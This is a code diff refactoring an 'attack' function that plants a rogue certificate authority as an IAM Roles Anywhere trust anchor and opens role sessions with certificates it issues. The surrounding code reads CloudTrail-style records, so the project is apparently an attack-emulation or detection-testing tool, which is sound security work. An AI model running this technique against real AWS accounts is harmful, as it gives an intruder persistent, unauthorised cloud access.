@@ -89,27 +89,38 @@ def attack(
     anchor = _create_anchor(anywhere, anchor_name, ca, enabled=enabled)
     profile_arn = _create_profile(anywhere, anchor_name, role_arn) if role_arn else None
     control = AwsControl(endpoint_url)
+    target = {
+        "trust_anchor_arn": anchor["trustAnchorArn"],
+        "profile_arn": profile_arn,
+        "role_arn": role_arn,
+        "source_ip": source_ip,
+    }
     entered = tuple(
-        control.create_session(
-            trust_anchor_arn=anchor["trustAnchorArn"],
-            profile_arn=profile_arn,
-            role_arn=role_arn,
-            certificate=ca.issue(f"runner-{number}"),
-            source_ip=source_ip,
-        )
-        for number in range(1, sessions + 1)
+        control.create_session(certificate=ca.issue(f"runner-{number}"), **target) for number in range(1, sessions + 1)
     )
+    record = _record_of(control, anchor["trustAnchorArn"])
+    return _done(anchor, actor_arn, ca, record, profile_arn, entered)
+
+
+def _done(
+    anchor: dict[str, Any],
+    actor_arn: str,
+    ca: RogueCa,
+    record: dict[str, Any],
+    profile_arn: str | None,
+    sessions: tuple[dict[str, Any], ...],
+) -> Attack:
     return Attack(
         trust_anchor_arn=anchor["trustAnchorArn"],
         trust_anchor_id=anchor["trustAnchorId"],
-        account_id=anchor["trustAnchorArn"].split(":")[4],
-        region=region,
+        account_id=record["recipientAccountId"],
+        region=record["awsRegion"],
         actor_arn=actor_arn,
-        access_key_id=credentials.access_key_id,
+        access_key_id=record["userIdentity"]["accessKeyId"],
         ca=ca,
-        record=_record_of(control, anchor["trustAnchorArn"]),
+        record=record,
         profile_arn=profile_arn,
-        sessions=entered,
+        sessions=sessions,
     )
 
 
